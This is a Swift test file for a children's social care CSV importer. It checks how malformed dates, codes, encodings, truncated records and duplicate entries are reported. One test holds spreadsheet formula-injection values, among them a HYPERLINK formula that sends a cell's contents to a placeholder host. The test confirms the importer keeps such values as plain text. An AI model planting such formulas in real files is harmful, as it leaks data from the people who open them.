import Casework
import Testing

@testable import Returns

@Suite struct BrokenCopiesTests {
  /// The problems of all lists but those named must be none.
  private func othersAreClean(_ read: Import, but names: Set<String>) {
    for list in read.lists where !names.contains(list.name) { #expect(list.problems == [], "\(list.name)") }
  }

  @Test func `a day that the calendar has not is named, and its row is left out`() throws {
    let read = try Fixture.annexARead("bad-date")
    othersAreClean(read, but: ["list_06", "list_07"])
    #expect(
      try read.list("list_07").problems == [
        ImportProblem(
          line: 2, column: "Child Protection Plan Start Date",
          why: "“31/02/2026” is no day of the calendar: February 2026 has 28 days; expected dd/mm/yyyy")
      ])
    #expect(
      try read.list("list_06").problems == [
        ImportProblem(
          line: 3, column: "CIN Start Date",
          why: "“2025-13-01” is no day of the calendar: there is no month 13; expected dd/mm/yyyy")
      ])
    #expect(try read.list("list_07").rows.count == 16)
    #expect(try read.list("list_06").rows.count == 61)
  }

  @Test func `an unknown code is named with what was expected`() throws {
    let read = try Fixture.annexARead("unknown-code")
    othersAreClean(read, but: ["list_06"])
    #expect(
      try read.list("list_06").problems == [
        ImportProblem(
          line: 2, column: "Case Status",
          why: "“z) Teapot” is not a value of this column; expected a) Looked after child, "
            + "b) Child Protection plan, c) Child in need plan, d) Open assessment, e) Closed episode"),
        ImportProblem(
          line: 3, column: "Gender",
          why: "“male-ish” is not a value of this column; expected a) Male, b) Female, "
            + "c) Not stated/recorded, d) Neither"),
      ])
  }

  @Test func `a record that stops part-way is told with its columns`() throws {
    let read = try Fixture.annexARead("truncated-line")
    othersAreClean(read, but: ["list_08"])
    let list = try read.list("list_08")
    #expect(
      list.problems == [
        ImportProblem(
          line: 17, column: nil,
          why: "the record has 8 of 34 columns; it was cut off or a comma is out of place")
      ])
    #expect(list.read == 16)
    #expect(list.rows.count == 15)
  }

  @Test func `a quotation mark that is never closed is told with its line`() throws {
    let list = try Fixture.caseload("broken/truncated-line/caseload.csv")
    #expect(
      list.problems == [
        ImportProblem(
          line: 140, column: nil,
          why: "a quotation mark opens on line 140 and is never closed; the record was cut off, "
            + "and nothing from it on was read")
      ])
    #expect(list.rows.count == 135)
    #expect(list.read == 136)
  }

  @Test func `windows-1252 is read as such, and says so`() throws {
    let read = try Fixture.annexARead("windows-1252")
    othersAreClean(read, but: [])
    let list = try read.list("list_06")
    #expect(list.rows[0].person.worker == "Declan Ó Ceallaigh")
    #expect(
      list.remarks == ["read as Windows-1252, because line 2 is not UTF-8 (byte 0xD3)"])
    let caseload = try Fixture.caseload("broken/windows-1252/caseload.csv")
    #expect(caseload.problems == [])
    #expect(caseload.rows.contains { $0.person.surname == "Ångström" })
    #expect(caseload.rows.contains { $0.person.surname == "Žižek" })
    #expect(caseload.rows.allSatisfy { $0.person.surname?.contains("Ã") != true })
  }

  @Test func `a person who stands there twice is named with both lines`() throws {
    let list = try Fixture.caseload("broken/duplicate-child/caseload.csv")
    #expect(
      list.problems == [
        ImportProblem(
          line: 141, column: "Forename",
          why: "person 1541120 stands on lines 2 and 141, and the two differ under “Forename”; "
            + "one of them must go")
      ])
    #expect(list.rows.count == 136)
    #expect(list.rows.first?.person.forename == "Freya")
  }

  @Test func `an empty file is a problem, a heading without rows is none`() throws {
    let read = try Fixture.annexARead("empty-file")
    othersAreClean(read, but: ["list_08"])
    #expect(
      try read.list("list_08").problems == [
        ImportProblem(
          line: nil, column: nil,
          why: "the file is empty, not even a header; save the list again, with its heading")
      ])
    #expect(try read.list("list_09").read == 0)
    #expect(try read.list("list_09").remarks == [])
  }

  @Test func `a line of five megabytes is refused at once and not printed`() throws {
    var files = try Fixture.annexA()
    files[5].bytes = Array(repeating: 0x61, count: 5 * 1024 * 1024)
    let clock = ContinuousClock()
    var lists: [ImportedList] = []
    let time = try clock.measure {
      lists = AnnexA.read(files: files, reference: try Fixture.reference()).lists
    }
    #expect(time < .seconds(5))
    #expect(
      lists[5].problems == [
        ImportProblem(
          line: 1, column: nil,
          why: "the line is longer than 64 kB, as no line of a list is; nothing from it on was read")
      ])
    #expect(lists[5].rows.isEmpty)
  }

  @Test func `what begins like a formula is kept as text`() throws {
    let read = try Fixture.annexARead("formula-injection")
    othersAreClean(read, but: [])
    let list = try read.list("list_06")
    #expect(
      list.rows.prefix(5).map(\.person.worker) == [
        "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"open me\")", "@SUM(1+1)", "-2+3", "+1", "=1+1",
      ])
    #expect(
      list.remarks == [
        "5 cells begin like a spreadsheet's formula, first on line 2 under “Allocated Worker”; kept as text"
      ])
    let caseload = try Fixture.caseload("broken/formula-injection/caseload.csv")
    #expect(
      caseload.remarks == [
        "1 cell begins like a spreadsheet's formula, first on line 2 under “Forename”; kept as text"
      ])
  }

  @Test func `orders to a terminal become a visible mark, and the report says so`() throws {
    let read = try Fixture.annexARead("terminal-escape")
    othersAreClean(read, but: [])
    let list = try read.list("list_06")
    #expect(
      list.rows.prefix(5).map(\.person.worker) == ["·RED", "·Name", "abcgpj.exe", "a·b", "two lines"])
    #expect(
      list.remarks == [
        "6 control or invisible characters were taken out, first on line 2 under “Allocated Worker”"
      ])
    for row in list.rows {
      for scalar in (row.person.worker ?? "").unicodeScalars {
        #expect(scalar.properties.generalCategory != .control)
        #expect(scalar.properties.generalCategory != .format)
      }
    }
  }

  @Test func `byte order marks, bare line feeds and blank lines change nothing`() throws {
    let (clean, broken) = (try Fixture.annexARead(), try Fixture.annexARead("bom-and-blank-lines"))
    #expect(clean.lists.map(\.read) == broken.lists.map(\.read))
    for (one, other) in zip(clean.lists, broken.lists) {
      #expect(other.problems == [] && one.remarks == other.remarks, "\(one.name)")
      #expect(one.rows.map(\.person) == other.rows.map(\.person), "\(one.name)")
      #expect(one.rows.map(\.line) == other.rows.map(\.line), "\(one.name)")
    }
  }

  @Test func `a child in list 7 only is kept, with a word`() throws {
    let read = try Fixture.annexARead("orphan-child")
    othersAreClean(read, but: [])
    let list = try read.list("list_07")
    #expect(list.rows.last?.person.id == "7777777")
    #expect(list.rows.count == 18)
    #expect(list.remarks == ["child 7777777 is in list 7 only (line 19); nothing else is known of them"])
  }

  @Test func `a missing list is named with what is lost`() throws {
    let files = try Fixture.annexA().filter { $0.name != "list_07.csv" }
    let read = AnnexA.read(files: files, reference: try Fixture.reference())
    othersAreClean(read, but: [])
    let list = try read.list("list_07")
    #expect(list.read == 0)
    #expect(
      list.remarks == [
        "list 7 is missing: protection plans cannot be read; no child's status is lowered for it"
      ])
    let stillOnPlan = try read.list("list_06").rows.compactMap { $0.facts.first as? ChildInNeed }
      .filter { $0.caseStatus == .protection }
    #expect(stillOnPlan.count == 16)
  }
}
